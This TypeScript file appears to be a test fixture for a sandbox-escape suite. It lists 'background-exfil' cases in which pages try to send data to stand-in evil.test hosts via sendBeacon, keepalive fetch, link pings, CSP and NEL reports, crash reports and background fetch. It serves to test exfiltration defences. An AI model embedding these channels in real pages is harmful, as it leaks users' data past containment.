import type { EscapeCase } from './escape-case.ts'
import { javascript, script } from './page-script.ts'

const category = 'background-exfil'

const reportTo = (id: string) => ({
  group: 'default',
  max_age: 3600,
  endpoints: [{ url: `https://${id}.evil.test/x` }],
})

export const backgroundExfilCases: readonly EscapeCase[] = [
  {
    id: 'BG-01',
    category,
    attack: 'sendBeacon',
    page: script(`navigator.sendBeacon('https://bg-01.evil.test/x', 'words')`),
  },
  {
    id: 'BG-03',
    category,
    attack: 'fetch that outlives its page',
    page: script(`addEventListener('pagehide', () =>
      fetch('https://bg-03.evil.test/x', { method: 'POST', keepalive: true, mode: 'no-cors', body: 'words' }))
      location = '/atk/bg-03/next'`),
  },
  {
    id: 'BG-05',
    category,
    attack: 'link that pings',
    page: '<a id="a" href="/atk/bg-05/next" ping="https://bg-05.evil.test/x">x</a>',
    gesture: `document.getElementById('a').click()`,
  },
  {
    id: 'BG-07',
    category,
    attack: 'report of a policy’s violation, report-uri',
    page: {
      headers: { 'content-security-policy': `img-src 'none'; report-uri https://bg-07.evil.test/x` },
      body: '<img src="/atk/bg-07/image">',
    },
  },
  {
    id: 'BG-09',
    category,
    attack: 'report of a network error, NEL',
    alone: true,
    page: {
      headers: {
        'report-to': JSON.stringify(reportTo('bg-09')),
        nel: JSON.stringify({ report_to: 'default', max_age: 3600, success_fraction: 1, failure_fraction: 1 }),
      },
      body: script(`for (let count = 0; count < 3; count++) await fetch('/atk/bg-09/again')`),
    },
  },
  {
    id: 'BG-11',
    category,
    attack: 'report of a crash',
    page: { headers: { 'reporting-endpoints': 'default="https://bg-11.evil.test/x"' }, body: '<p>about to fall over' },
    act: terminal => terminal.crash(),
  },
  {
    id: 'BG-13',
    category,
    attack: 'background fetch',
    page: script(`const worker = await navigator.serviceWorker.register('/atk/bg-13/sw.js')
      await navigator.serviceWorker.ready
      await worker.backgroundFetch.fetch('a', ['https://bg-13.evil.test/x'])`),
    parts: {
      'sw.js': {
        headers: javascript,
        body: `addEventListener('install', () => skipWaiting())
      addEventListener('activate', event => event.waitUntil(clients.claim()))`,
      },
    },
    inert: 'Electron has no place to download to in the background',
  },
]
